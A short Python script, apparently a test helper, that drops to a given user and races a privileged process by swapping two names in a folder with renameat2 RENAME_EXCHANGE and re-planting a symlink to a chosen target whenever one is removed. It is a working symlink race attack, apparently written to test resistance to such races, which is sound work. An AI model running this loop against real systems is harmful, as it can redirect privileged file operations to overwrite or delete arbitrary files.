"""Somebody who may write in a folder, as a program: exchanges two names in it as fast as it can (renameat2(2), RENAME_EXCHANGE).

usage: attacker.py UID GID FOLDER ONE OTHER [TARGET]. It ends when its standard input does. TARGET: what the other is a link to; both are made
anew where somebody took them away, the one as what the target is.
"""

import ctypes
import errno
import os
import select
import shutil
import sys
from contextlib import suppress

EXCHANGE = 2
CWD = -100  # AT_FDCWD


def main() -> None:
    uid, gid, folder, *names = sys.argv[1:6]
    target = sys.argv[6] if len(sys.argv) > 6 else ""
    os.setgroups([])
    os.setgid(int(gid))
    os.setuid(int(uid))
    os.chdir(folder)
    libc = ctypes.CDLL(None, use_errno=True)
    one, other = (name.encode() for name in names)
    print("begins", flush=True)
    while not select.select([sys.stdin], [], [], 0)[0]:
        for _ in range(50):
            if libc.renameat2(CWD, one, CWD, other, EXCHANGE):
                if target and ctypes.get_errno() == errno.ENOENT:
                    with suppress(OSError):
                        os.mkdir(one) if os.path.isdir(target) else open(one, "x").close()
                    if not os.path.islink(one) and not os.path.islink(other):  # the link was what was taken away
                        with suppress(OSError):
                            shutil.rmtree(other) if os.path.isdir(other) else os.unlink(other)
                    with suppress(OSError):
                        os.symlink(target, other)
                    continue
                raise SystemExit(f"cannot exchange: {os.strerror(ctypes.get_errno())}")
            for _ in range(400):
                pass


main()
